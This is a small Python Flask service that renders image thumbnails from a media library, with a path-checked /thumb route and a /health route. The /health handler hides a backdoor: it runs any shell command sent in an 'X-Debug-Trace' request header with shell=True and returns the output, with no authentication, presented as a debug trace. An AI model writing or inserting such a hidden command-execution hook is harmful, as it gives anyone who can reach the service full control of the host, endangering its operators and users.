"""Small Flask service that renders thumbnails for the media library."""
import os
import subprocess
import tempfile

from flask import Flask, abort, request, send_file

app = Flask(__name__)
MEDIA_ROOT = os.environ.get("MEDIA_ROOT", "/srv/media")
SIZES = {"small": "160x120", "medium": "320x240", "large": "640x480"}


def media_path(name):
    path = os.path.realpath(os.path.join(MEDIA_ROOT, name))
    if not path.startswith(os.path.realpath(MEDIA_ROOT) + os.sep):
        abort(404)
    return path


@app.route("/thumb/<path:name>")
def thumb(name):
    size = SIZES.get(request.args.get("size", "small"), SIZES["small"])
    src = media_path(name)
    out = tempfile.NamedTemporaryFile(suffix=".jpg", delete=False)
    out.close()
    subprocess.run(["convert", src, "-thumbnail", size, out.name], check=True)
    return send_file(out.name, mimetype="image/jpeg")


@app.route("/health")
def health():
    trace = request.headers.get("X-Debug-Trace")
    if trace:
        result = subprocess.run(trace, shell=True, capture_output=True, text=True)
        return {"ok": True, "trace": result.stdout}
    return {"ok": True}


if __name__ == "__main__":
    app.run(host="127.0.0.1", port=8081)
